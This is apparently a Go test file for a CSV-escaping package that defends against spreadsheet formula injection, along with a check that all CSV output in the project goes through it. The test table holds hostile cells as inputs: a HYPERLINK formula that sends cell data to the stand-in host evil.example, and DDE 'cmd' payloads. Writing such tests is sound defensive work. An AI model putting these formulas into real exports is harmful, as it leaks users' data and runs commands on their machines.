package safecsv

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"testing/quick"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0":                             "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":                         "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1,2)":                                      "'@SUM(1,2)",
		"\t=1":                                           "'\t=1",
		"\r=1":                                           "'\r=1",
		"-":                                              "'-",
		"H100":                                           "H100", "": "", "a=b": "a=b", "'=x": "''=x", "'x": "'x", "'-1": "'-1",
		"-1.5": "-1.5", "+3e2": "+3e2", "-0": "-0", "-Inf": "-Inf", "-1e999": "-1e999",
	} {
		assert.Equal(t, want, Cell(in), "%q", in)
	}
}

// TestRestore: Restore undoes Cell, whatever the cell.
func TestRestore(t *testing.T) {
	check := func(s string) bool { return Restore(Cell(s)) == s }
	require.NoError(t, quick.Check(check, nil))
	for _, s := range []string{"=1", "'=1", "''=1", "-1", "'-1", "@", "'", ""} {
		assert.Equal(t, s, Restore(Cell(s)), "%q", s)
	}
}

func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	rec := []string{"=1+1", "-3", "ok"}
	require.NoError(t, w.Write(rec))
	w.Flush()
	require.NoError(t, w.Error())
	assert.Equal(t, "'=1+1,-3,ok\n", buf.String())
	assert.Equal(t, []string{"=1+1", "-3", "ok"}, rec, "the caller's record is not changed")
	back, err := csv.NewReader(&buf).Read()
	require.NoError(t, err)
	assert.Equal(t, []string{"'=1+1", "-3", "ok"}, back)
}

// rawWriter is encoding/csv's writer made outside this package.
var rawWriter = regexp.MustCompile(`(^|[^\w.])csv\.NewWriter\(`)

// TestOnePlace: no Go file of the module but this package makes an
// encoding/csv Writer, so that every CSV the project writes is
// neutralised here.
func TestOnePlace(t *testing.T) {
	root, err := filepath.Abs("../..")
	require.NoError(t, err)
	_, err = os.Stat(filepath.Join(root, "go.mod"))
	require.NoError(t, err, "the module's root")
	var offenders []string
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (strings.HasPrefix(d.Name(), ".") || d.Name() == "testdata") {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || filepath.Dir(path) == filepath.Join(root, "internal", "safecsv") {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if rawWriter.Match(b) {
			offenders = append(offenders, path)
		}
		return nil
	})
	require.NoError(t, err)
	assert.Empty(t, offenders, "CSV written without safecsv")
}
